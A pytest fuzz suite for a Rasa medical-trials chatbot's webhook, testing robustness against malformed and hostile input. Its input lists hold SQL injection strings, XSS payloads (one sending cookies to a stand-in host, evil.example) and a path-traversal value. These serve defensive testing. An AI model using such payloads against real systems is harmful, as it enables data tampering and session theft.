"""Fuzz the REST webhook of the REAL running Rasa server (the session's `assistant`) with
hypothesis: well over 2,000 requests of odd text, broken bodies and wrong types, sent as raw
bytes. Nothing may get a 5xx, every answer is JSON of the documented shape, the servers stay up
and still greet, the Rasa process's memory stays within a stated bound, the trial tables are
unchanged, and what is refused is not stored (the content-gap log is the store a request can
reach; Rasa's own tracker store is in memory here).

Runs in about three minutes: most requests are refused before the model (cheap); the ones the
model reads are capped by MODEL_EXAMPLES. Generation is derandomised and hypothesis keeps no
example database, so every run sends the same requests.
"""

from __future__ import annotations

import hashlib
import http.client
import json
import logging
import os
import socket
import sqlite3
import unicodedata
import uuid
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Dict, Iterator, List, Optional, Tuple
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.ratelimit import per_minute_from_env
from components.channels.rest import (
    MAX_BODY_BYTES,
    MAX_MESSAGE_CHARS,
    TOO_LONG_TEXT,
    BadRequest,
    HardenedRestInput,
    clean_text,
    parse_body,
    rate_limited_text,
)
from tests.conftest import ARTIFACTS_DIR
from tests.servers import say, texts

pytestmark = pytest.mark.integration

WEBHOOK = "/webhooks/rest/webhook"
MODEL_EXAMPLES = 350  # text messages the model reads (the slow part: ~0.1-0.3 s each)
REFUSED_EXAMPLES = 1500  # malformed bodies, refused before the model (a few ms each)
LONG_EXAMPLES = 150  # over-long messages: a kind reply, never the model
WARM_UP_REQUESTS = 200  # memory is compared from the end of these to the last request
MIN_REQUESTS = 2000
# The in-memory tracker store keeps every conversation, so the Rasa process may grow by what the
# model-read messages add (each turn stores the parse result and the replies); refusals must
# add nothing. Measured: well under 10 MB for the whole run (see the summary artifact).
RSS_BOUND_MB = 60
REFUSAL_RSS_BOUND_MB = 8
GAP_MARK = "zqxjfuzzmark"  # a nonsense word: a message holding it that reached the model is logged as a gap

SQL = [
    "'; DROP TABLE trials; --",
    "1' OR '1'='1",
    '" OR ""="',
    "lutathera'); DELETE FROM trials;--",
    "UNION SELECT nct_id, title FROM trials--",
    "%' AND 1=0 UNION SELECT sqlite_version()--",
    "1; UPDATE trials SET status='CLOSED'",
    "Robert'); DROP TABLE content_gaps;--",
    "everolimus\\'; SELECT pg_sleep(10);--",
    "' OR 1=1 LIMIT 1 OFFSET 1 --",
]
HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert('x')>",
    "\"><script>document.location='http://evil.example/'+document.cookie</script>",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">lutathera</a>',
    "</textarea><script>fetch('/x')</script>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "<b onmouseover=alert(1)>hi</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
MARKUP = ("<script", "onerror=", "onload=", "javascript:", "<iframe")
LANGUAGES = [
    "هل توجد تجارب سريرية لأورام الغدد الصم العصبية؟",  # Arabic
    "有没有关于胰腺神经内分泌肿瘤的临床试验？",  # Chinese
    "Oes treialon clinigol ar gyfer tiwmorau niwroendocrin?",  # Welsh
    "Czy są badania kliniczne dotyczące guzów neuroendokrynnych trzustki?",  # Polish
    "Есть ли клинические испытания лютатеры?",  # Russian
    "膵神経内分泌腫瘍の治験はありますか",  # Japanese
    "क्या न्यूरोएंडोक्राइन ट्यूमर के लिए परीक्षण हैं?",  # Hindi
    "Ist Lutathera in Deutschland verfügbar? Größe, Übelkeit",  # German
    "Υπάρχουν κλινικές δοκιμές;",  # Greek
    "האם יש ניסויים קליניים?",  # Hebrew
    "Có thử nghiệm lâm sàng nào không?",  # Vietnamese
    "ท่านมีการทดลองทางคลินิกไหม",  # Thai
]
EMOJI = ["🙂", "😢💔", "👩🏽‍⚕️", "🏳️‍🌈", "🇬🇧", "❤️‍🔥", "🧬💊🏥", "\u200d", "🫠" * 40, "👍🏿"]
ODD = [
    "\x00",
    "\x00hello",
    "he\x07llo\x1b[31m",
    "\r\n\r\n",
    "\t",
    "\u202eevil\u202c",
    "\ufeff",
    "\ud800",
    "\udfff lutathera",
    "\uffff",
    "\U0010ffff",
    "a\u0301\u0301\u0301",
    "Ω≈ç√∫˜µ≤≥÷",
    " " * 50,
    "\x7f\x85\x9f",
]
CONTENT_TYPES = [
    "application/json",
    "text/plain",
    "application/x-www-form-urlencoded",
    None,
    "application/json; charset=latin-1",
]
INVALID_UTF8 = [
    b"\xff",
    b"\xfe\xff",
    b"\xc3\x28",
    b"\xa0\xa1",
    b"\xe2\x28\xa1",
    b"\xf0\x28\x8c\x28",
    b"\xed\xa0\x80",
    b"\xc0\xaf",
    b"\xf8\x88\x80\x80\x80",
    b"\x80",
    b"\xef\xbf",
]


# --- sending raw requests ----------------------------------------------------------------------


@dataclass
class Answer:
    status: int  # 0 when the server closed the connection instead of answering
    content_type: str
    body: bytes

    def json(self) -> object:
        return json.loads(self.body.decode("utf-8"))


@dataclass
class Tally:
    statuses: Counter = field(default_factory=Counter)
    by_kind: Dict[str, Counter] = field(default_factory=dict)
    rss_kb: Dict[str, int] = field(default_factory=dict)

    @property
    def total(self) -> int:
        return sum(self.statuses.values())

    def add(self, kind: str, status: int) -> None:
        self.statuses[status] += 1
        self.by_kind.setdefault(kind, Counter())[status] += 1


TALLY = Tally()


def post(
    base: str, body: bytes, kind: str, content_type: Optional[str] = "application/json", query: str = ""
) -> Answer:
    url = urlsplit(base)
    conn = http.client.HTTPConnection(url.hostname, url.port, timeout=120)
    headers = {"Content-Type": content_type} if content_type else {}
    try:
        conn.request("POST", WEBHOOK + query, body=body, headers=headers)
        response = conn.getresponse()
        answer = Answer(response.status, response.getheader("Content-Type", ""), response.read())
    finally:
        conn.close()
    TALLY.add(kind, answer.status)
    return answer


def post_huge(base: str, size: int) -> Answer:
    """A body larger than the limit, over a raw socket: the server may answer 413 before the
    body is sent, then close the connection, so a reset while sending is a refusal too."""
    url = urlsplit(base)
    head = (
        f"POST {WEBHOOK} HTTP/1.1\r\nHost: {url.netloc}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {size}\r\nConnection: close\r\n\r\n"
    ).encode()
    chunk = b'{"sender": "huge", "message": "' + b"a" * (64 * 1024)
    received = b""
    with socket.create_connection((url.hostname, url.port), timeout=60) as sock:
        sock.sendall(head)
        try:
            sent = 0
            while sent < size:
                part = chunk[: size - sent]
                sock.sendall(part)
                sent += len(part)
        except OSError:
            pass  # the server stopped reading: it has refused the body
        try:
            while True:
                data = sock.recv(65536)
                if not data:
                    break
                received += data
        except OSError:
            pass
    status = int(received.split(b" ", 2)[1]) if received.startswith(b"HTTP/1.1 ") else 0
    header, _, body = received.partition(b"\r\n\r\n")
    content_type = next(
        (
            line.split(b":", 1)[1].strip().decode()
            for line in header.split(b"\r\n")
            if line.lower().startswith(b"content-type:")
        ),
        "",
    )
    TALLY.add("huge", status)
    return Answer(status, content_type, body)


def body_of(sender: object = None, message: object = None, **extra: object) -> bytes:
    data: Dict[str, object] = {}
    if sender is not None:
        data["sender"] = sender
    if message is not None:
        data["message"] = message
    data.update(extra)
    return json.dumps(data).encode()


def new_sender(prefix: str) -> str:
    return f"{prefix}-{uuid.uuid4().hex[:12]}"


def assert_replies(answer: Answer, sender: str) -> List[dict]:
    assert answer.status == 200, (answer.status, answer.body[:300])
    assert answer.content_type.startswith("application/json"), answer.content_type
    replies = answer.json()
    assert isinstance(replies, list), replies
    for reply in replies:
        assert isinstance(reply, dict) and reply.get("recipient_id") == sender, reply
        assert isinstance(reply.get("text", ""), str)
    return replies


def assert_refused(answer: Answer, statuses: Tuple[int, ...] = (400,)) -> str:
    assert answer.status in statuses, (answer.status, answer.body[:300])
    assert answer.content_type.startswith("application/json"), answer.content_type
    error = answer.json()
    assert isinstance(error, dict) and isinstance(error.get("error"), str) and error["error"], error
    return error["error"]


# --- the Rasa process: pid, memory, database -----------------------------------------------


def listening_pid(port: int) -> int:
    """The process listening on 127.0.0.1:`port`, found through /proc (socket inode)."""
    inodes = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        if not Path(table).exists():
            continue
        for line in Path(table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A" and int(fields[1].rsplit(":", 1)[1], 16) == port:  # 0A: LISTEN
                inodes.add(f"socket:[{fields[9]}]")
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit():
            continue
        try:
            if any(os.readlink(fd) in inodes for fd in (proc / "fd").iterdir()):
                return int(proc.name)
        except OSError:
            continue
    raise LookupError(f"no process is listening on port {port}")


def rss_kb(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise LookupError("no VmRSS")


def process_env(pid: int) -> Dict[str, str]:
    raw = Path(f"/proc/{pid}/environ").read_bytes()
    pairs = (item.decode(errors="replace").split("=", 1) for item in raw.split(b"\0") if b"=" in item)
    return {k: v for k, v in pairs}


def trial_tables_digest(db: Path) -> Dict[str, str]:
    """A digest of every table but the content-gap log (which the fallback writes on purpose)."""
    with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as conn:
        names = [
            n
            for (n,) in conn.execute("SELECT name FROM sqlite_master WHERE type='table' ORDER BY name")
            if n != "content_gaps"
        ]
        digests = {}
        for name in names:
            rows = sorted(repr(row) for row in conn.execute(f'SELECT * FROM "{name}"'))
            digests[name] = hashlib.sha256("\n".join(rows).encode("utf-8", "surrogatepass")).hexdigest()
    return digests


def gap_texts(db: Path) -> List[str]:
    with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as conn:
        try:
            return [t for (t,) in conn.execute("SELECT text FROM content_gaps")]
        except sqlite3.OperationalError:  # no gap recorded yet: the table is made on first use
            return []


@dataclass
class Target:
    base: str
    pid: int
    db: Path
    tables_before: Dict[str, str]
    gaps_before: int


WARM_UP = [
    "hello",
    "are there any lutathera trials",
    "what is a neuroendocrine tumour",
    "can i speak to a nurse",
    "show me open trials",
    "what's the best banana bread recipe",
    "tell me about NCT07273409",
    "thanks",
]


def warm_up(base: str, requests: int) -> None:
    """The first requests: the model's first answers allocate what later ones reuse."""
    for n in range(requests):
        if n % 5 == 0:
            sender = new_sender("warm")
            assert_replies(post(base, body_of(sender, WARM_UP[(n // 5) % len(WARM_UP)]), "warm_up"), sender)
        else:
            assert_refused(post(base, body_of(None, "hello"), "warm_up"))


@pytest.fixture(scope="module")
def target(assistant: str) -> Iterator[Target]:
    pid = listening_pid(urlsplit(assistant).port or 80)
    url = process_env(pid).get("DATABASE_URL", "")
    assert url.startswith("sqlite:///"), "the fuzz test reads the assistant's SQLite trial database"
    db = Path(url[len("sqlite:///") :])
    found = Target(assistant, pid, db, trial_tables_digest(db), len(gap_texts(db)))
    warm_up(assistant, WARM_UP_REQUESTS)
    TALLY.rss_kb["after_warm_up"] = rss_kb(pid)
    yield found


# --- the parsing on its own (no server) ----------------------------------------------------------


def test_parse_body_cleans_text_and_names_what_is_wrong() -> None:
    assert (
        parse_body(b'{"sender": "a-1:b.c_d", "message": "hi\\u0000 there\\r\\n\\u202e\\ud800"}').text
        == "hi there\n\ufffd"
    )
    assert clean_text("\U0001f469\u200d\u2695\ufe0f caf\u00e9\t\x07") == "\U0001f469\u200d\u2695\ufe0f caf\u00e9\t"
    cases = {
        b"": "empty",
        b"\xff": "UTF-8",
        b"{": "not valid JSON",
        b"[1]": "JSON object",
        b'{"message": "hi"}': '"sender" is missing',
        b'{"sender": "a b", "message": "hi"}': "1 to 128",
        b'{"sender": 7, "message": "hi"}': '"sender" must be a string',
        b'{"sender": "a"}': '"message" is missing',
        b'{"sender": "a", "message": 3}': '"message" must be a string',
        b'{"sender": "a", "message": "\\u0000"}': "empty",
        b"[" * 100_000: "not valid JSON",
    }
    for body, reason in cases.items():
        with pytest.raises(BadRequest, match=reason):
            parse_body(body)
    long = parse_body(json.dumps({"sender": "a", "message": "\x00" * (MAX_MESSAGE_CHARS + 1)}).encode())
    assert long.too_long, "measured before cleaning: an over-long message is never cleaned or read"


def test_rate_limit_refusals_are_logged_as_a_count_a_minute(caplog: pytest.LogCaptureFixture) -> None:
    channel = HardenedRestInput(None)
    with caplog.at_level(logging.WARNING, logger="components.channels.rest"):
        for _ in range(50):
            channel.note_rate_limited()
    assert [r.getMessage() for r in caplog.records] == [
        "REST webhook: 1 message(s) refused by the rate limit since the last report"
    ]


FUZZ = settings(
    deadline=None,
    database=None,
    derandomize=True,
    print_blob=False,
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.filter_too_much,
        HealthCheck.large_base_example,
    ],
)


# --- refused before the model ------------------------------------------------------------------


def json_values() -> st.SearchStrategy:
    scalars = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20)
    return st.recursive(
        scalars,
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
        max_leaves=10,
    )


bad_senders = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False),
    st.lists(st.text(max_size=5), max_size=3),
    st.dictionaries(st.text(max_size=5), st.text(max_size=5), max_size=2),
    st.just(""),
    st.text(min_size=129, max_size=300, alphabet="abc123"),
    st.text(min_size=1, max_size=40).filter(lambda s: not all(c.isascii() and (c.isalnum() or c in "_.:-") for c in s)),
    st.sampled_from(
        [
            "../../etc/passwd",
            "a b",
            "me\n",
            "<script>",
            "'; DROP TABLE events;--",
            "someone@example.org",
            "\x00",
            "🙂",
            "ä",
        ]
    ),
)
bad_messages = st.one_of(
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False),
    st.lists(st.text(max_size=5), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=2),
    st.sampled_from(["", "   ", "\x00\x01\x02", "\n\t\n", "\u202e", "\x7f"]),
)


@st.composite
def malformed_bodies(draw: st.DrawFn) -> Tuple[str, bytes]:
    kind = draw(
        st.sampled_from(
            [
                "binary",
                "invalid_utf8",
                "broken_json",
                "not_object",
                "bad_sender",
                "missing_sender",
                "bad_message",
                "deep",
                "empty",
            ]
        )
    )
    if kind == "binary":
        return kind, draw(st.binary(max_size=300))
    if kind == "invalid_utf8":
        bad = draw(st.sampled_from(INVALID_UTF8))
        where = draw(st.sampled_from(["message", "sender", "key", "whole"]))
        if where == "whole":
            return kind, bad + b'{"sender": "x", "message": "hi"}'
        if where == "key":
            return kind, b'{"sen' + bad + b'der": "x", "message": "hi"}'
        before = b'{"sender": "x' if where == "sender" else b'{"sender": "x", "message": "hi'
        after = b'", "message": "hi"}' if where == "sender" else b'"}'
        return kind, before + bad + after
    if kind == "broken_json":
        good = body_of(new_sender("broken"), draw(st.text(max_size=30)))
        cut = draw(st.integers(min_value=0, max_value=len(good) - 1))
        variant = draw(st.sampled_from(["cut", "single_quotes", "trailing", "comment", "bare"]))
        if variant == "cut":
            return kind, good[:cut]
        if variant == "single_quotes":
            return kind, good.replace(b'"', b"'")
        if variant == "trailing":
            return kind, good[:-1] + b",}"
        if variant == "comment":
            return kind, b"// hi\n" + good
        return kind, b"sender=me&message=hello"
    if kind == "not_object":
        value = draw(json_values().filter(lambda v: not isinstance(v, dict)))
        return kind, json.dumps(value).encode()
    if kind == "bad_sender":
        return kind, body_of(draw(bad_senders), draw(st.text(min_size=1, max_size=20)))
    if kind == "missing_sender":
        extra = draw(
            st.dictionaries(
                st.sampled_from(["Sender", "user", "sender_id", "metadata", "input_channel"]), json_values(), max_size=3
            )
        )
        return kind, body_of(None, draw(st.text(min_size=1, max_size=20)), **extra)
    if kind == "bad_message":
        return kind, json.dumps({"sender": new_sender("badmsg"), "message": draw(bad_messages)}).encode()
    if kind == "deep":
        depth = draw(st.sampled_from([1000, 5000, 100000]))
        return kind, b"[" * depth + b"]" * depth if draw(st.booleans()) else b'{"a":' * depth + b"1" + b"}" * depth
    return kind, draw(st.sampled_from([b"", b" ", b"\n", b"null", b"{}", b"[]", b'""', b"0"]))


def test_malformed_bodies_get_a_400_json_error(target: Target) -> None:
    pid = target.pid
    TALLY.rss_kb["refused_start"] = rss_kb(pid)

    @settings(FUZZ, max_examples=REFUSED_EXAMPLES)
    @given(case=malformed_bodies(), content_type=st.sampled_from(CONTENT_TYPES))
    def check(case: Tuple[str, bytes], content_type: Optional[str]) -> None:
        kind, body = case
        assert_refused(post(target.base, body, kind, content_type))

    check()
    TALLY.rss_kb["refused_end"] = rss_kb(pid)
    grown_mb = (TALLY.rss_kb["refused_end"] - TALLY.rss_kb["refused_start"]) / 1024
    assert grown_mb <= REFUSAL_RSS_BOUND_MB, f"refusals grew the Rasa process by {grown_mb:.1f} MB"


def test_huge_bodies_are_refused_without_reading_them(target: Target) -> None:
    for size in (MAX_BODY_BYTES + 1, 5 * 1024 * 1024, 50 * 1024 * 1024):
        answer = post_huge(target.base, size)
        assert answer.status in (413, 0), answer.status  # 0: closed on us; never a 5xx
        if answer.status == 413:
            assert b"larger than" in answer.body and answer.content_type.startswith("application/json")
    chunked = http.client.HTTPConnection(urlsplit(target.base).hostname, urlsplit(target.base).port, timeout=60)
    try:
        chunked.request(
            "POST",
            WEBHOOK,
            body=iter([b'{"sender": "chunked", "message": "'] + [b"a" * 65536] * 40),
            headers={"Content-Type": "application/json"},
            encode_chunked=True,
        )
        status = chunked.getresponse().status
    except OSError:
        status = 0
    finally:
        chunked.close()
    TALLY.add("huge", status)
    assert status in (413, 0)


# --- over-long messages: a kind reply, not the model -------------------------------------------

long_texts = st.one_of(
    st.integers(min_value=MAX_MESSAGE_CHARS + 1, max_value=MAX_MESSAGE_CHARS + 5000).map(lambda n: "a" * n),
    st.sampled_from(["lutathera ", "有没有临床试验", "🙂", "<script>alert(1)</script>", "' OR 1=1 --", "\x00"]).flatmap(
        lambda piece: st.integers(MAX_MESSAGE_CHARS // len(piece) + 1, 100_000 // len(piece) + 1).map(
            lambda n: piece * n
        )
    ),
    # Any text past the limit (Hypothesis draws texts only up to a few thousand characters).
    st.text(min_size=1, max_size=200).map(lambda tail: "x" * MAX_MESSAGE_CHARS + tail),
)


def test_over_long_messages_get_a_kind_reply_and_are_not_stored(target: Target) -> None:
    @settings(FUZZ, max_examples=LONG_EXAMPLES)
    @given(text=long_texts)
    def check(text: str) -> None:
        sender = new_sender("long")
        body = body_of(sender, f"{GAP_MARK} {text}")
        answer = post(target.base, body, "too_long")
        if len(body) > MAX_BODY_BYTES:
            assert_refused(answer, (413,))
        else:
            assert [r["text"] for r in assert_replies(answer, sender)] == [TOO_LONG_TEXT]

    check()
    exactly = new_sender("limit")
    replies = assert_replies(post(target.base, body_of(exactly, "a" * MAX_MESSAGE_CHARS), "too_long"), exactly)
    assert TOO_LONG_TEXT not in texts(replies), "a message of exactly the limit goes to the model"
    assert not [t for t in gap_texts(target.db) if GAP_MARK in t], "an over-long message reached the model"


# --- read by the model -------------------------------------------------------------------------

everything_text = st.text(alphabet=st.characters(codec=None, exclude_categories=()), min_size=0, max_size=300)
model_texts = st.one_of(
    everything_text,  # any code point: controls, NUL, lone surrogates, private use, unassigned
    st.sampled_from(SQL + HTML + LANGUAGES + EMOJI + ODD),
    st.tuples(st.sampled_from(SQL + HTML + LANGUAGES), st.sampled_from(EMOJI + ODD)).map(" ".join),
    st.lists(st.sampled_from(LANGUAGES + EMOJI + ["lutathera", "trial", "nurse", "hello"]), min_size=1, max_size=8).map(
        " ".join
    ),
)


def test_any_text_gets_replies_or_a_clear_400(target: Target) -> None:
    TALLY.rss_kb["model_start"] = rss_kb(target.pid)
    echoed: List[str] = []

    @settings(FUZZ, max_examples=MODEL_EXAMPLES)
    @given(text=model_texts, stream=st.booleans())
    def check(text: str, stream: bool) -> None:
        sender = new_sender("fuzz")
        answer = post(target.base, body_of(sender, text), "model", query="?stream=true" if stream else "")
        if not clean_text(text).strip():  # nothing left once control characters are removed
            assert_refused(answer)
            return
        assert answer.status == 200, (answer.status, answer.body[:300])
        if stream:
            assert answer.content_type.startswith("text/event-stream"), answer.content_type
            replies = [json.loads(line) for line in answer.body.decode("utf-8").splitlines() if line.strip()]
        else:
            replies = assert_replies(answer, sender)
        for reply in replies:
            if any(mark in reply.get("text", "").lower() for mark in MARKUP):
                echoed.append(reply["text"])  # only ever inside a JSON string: plain text

    check()
    TALLY.rss_kb["model_end"] = rss_kb(target.pid)
    TALLY.by_kind.setdefault("echoed_markup", Counter())["replies"] = len(echoed)


# --- the rate limit ----------------------------------------------------------------------------


def test_a_sender_over_the_rate_limit_gets_a_429_and_a_kind_reply(target: Target) -> None:
    limit = per_minute_from_env(os.environ)  # the servers were started with this environment
    if limit == 0:
        pytest.skip("RATE_LIMIT_PER_MINUTE=0: the rate limit is off")
    sender = new_sender("flood")
    # over-long messages count against the limit but never reach the model: a cheap flood
    for _ in range(limit):
        assert_replies(post(target.base, body_of(sender, "x" * (MAX_MESSAGE_CHARS + 1)), "rate_limit"), sender)
    url = urlsplit(target.base)
    conn = http.client.HTTPConnection(url.hostname, url.port, timeout=60)
    try:
        conn.request(
            "POST",
            WEBHOOK,
            body=body_of(sender, f"hello {GAP_MARK} limited"),
            headers={"Content-Type": "application/json"},
        )
        response = conn.getresponse()
        status, retry_after, body = response.status, response.getheader("Retry-After"), response.read()
    finally:
        conn.close()
    TALLY.add("rate_limit", status)
    assert status == 429
    assert retry_after and 1 <= int(retry_after) <= 60
    replies = json.loads(body)
    assert len(replies) == 1 and replies[0]["recipient_id"] == sender
    assert replies[0]["text"] == rate_limited_text(int(retry_after))
    assert f"wait {retry_after} second" in replies[0]["text"]
    other = new_sender("calm")
    assert_replies(post(target.base, body_of(other, "hello"), "rate_limit"), other)  # others are not held up
    assert not [t for t in gap_texts(target.db) if f"{GAP_MARK} limited" in t], "a limited message was stored"


# --- afterwards --------------------------------------------------------------------------------


def test_after_the_fuzz_the_servers_still_work_and_nothing_else_changed(target: Target) -> None:
    reply = texts(say(target.base, new_sender("after"), "hello"))
    assert "0808 800 4040" in reply, reply
    assert trial_tables_digest(target.db) == target.tables_before, "the trial tables changed"
    gaps = gap_texts(target.db)[target.gaps_before :]
    for text in gaps:
        assert len(text) <= 1000, len(text)
        odd = [c for c in text if unicodedata.category(c) in ("Cc", "Cs") or "\u202a" <= c <= "\u202e"]
        assert not odd, repr(text[:80])
    rss = TALLY.rss_kb
    rss["after"] = rss_kb(target.pid)
    summary = {
        "requests": TALLY.total,
        "statuses": dict(TALLY.statuses),
        "by_kind": {k: dict(v) for k, v in TALLY.by_kind.items()},
        "rss_kb": rss,
        "gaps_recorded": len(gaps),
    }
    ARTIFACTS_DIR.mkdir(exist_ok=True)
    (ARTIFACTS_DIR / "fuzz-webhook-summary.json").write_text(json.dumps(summary, indent=2, sort_keys=True))
    print("\nfuzz summary:", json.dumps(summary, sort_keys=True))
    assert TALLY.total >= MIN_REQUESTS, summary
    assert not [s for s in TALLY.statuses if s >= 500], summary
    grown_mb = (rss["after"] - rss["after_warm_up"]) / 1024
    assert grown_mb <= RSS_BOUND_MB, f"the Rasa process grew by {grown_mb:.1f} MB over the fuzz"
